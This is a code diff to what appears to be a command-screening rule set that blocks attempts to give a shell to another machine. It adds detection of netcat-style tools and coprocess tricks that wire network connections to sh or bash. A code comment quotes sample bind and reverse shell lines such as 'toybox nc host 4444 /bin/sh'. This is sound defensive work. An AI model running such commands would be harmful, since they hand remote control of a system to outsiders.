@@ -13,6 +13,7 @@ const quoters: ReadonlySet<string> = new Set(
   ),
 )
 const shells = list('sh bash zsh dash ksh')
+const shellPath = /^(\/(usr\/)?bin\/)?(ba|z|da|k|a)?sh$/
 const gives = deny('give a shell to another machine')
 const instead = 'Nobody outside should get a shell here.'
 
@@ -91,6 +92,8 @@ export const doorRules: readonly Rule[] = [
       const { stdin } = command
       if (command.name === 'socat') return socatShell.test(joined(command.words)) ? gives : undefined
       if (command.name !== 'openssl' && command.name !== 'telnet' && has(command, 'ec', 'exec', 'sh-exec')) return gives
+      // `toybox nc -L /bin/sh`, `toybox nc host 4444 /bin/sh`.
+      if (command.name !== 'openssl' && command.words.slice(2).some(({ text }) => shellPath.test(text))) return gives
       const fed = stdin.kind === 'pipe' && stdin.from.some((one) => shells.includes(one.name) && one.words.length < 3)
       return fed && (command.name !== 'openssl' || says(command, 's_client')) ? gives : undefined
     },
@@ -146,5 +149,14 @@ export const doorsInText: readonly WholeRule[] = [
       reading.files.some((file) => device.test(file.path.text) && !here.test(file.path.text))
         ? deny('open a connection from the shell itself (/dev/tcp)')
         : undefined,
+  },
+  {
+    name: 'joined-coprocess',
+    instead,
+    findInText({ reading, text }) {
+      if (!/\bcoproc\b/.test(text) || !/[<>]&\s*["']?\$\{?\w+\[/.test(text)) return undefined
+      const connects = reading.commands.some(({ name }) => /^(nc|ncat|netcat|socat|telnet|openssl)$/.test(name))
+      return connects && reading.commands.some(({ name }) => shellPath.test(name)) ? gives : undefined
+    },
   },
 ]
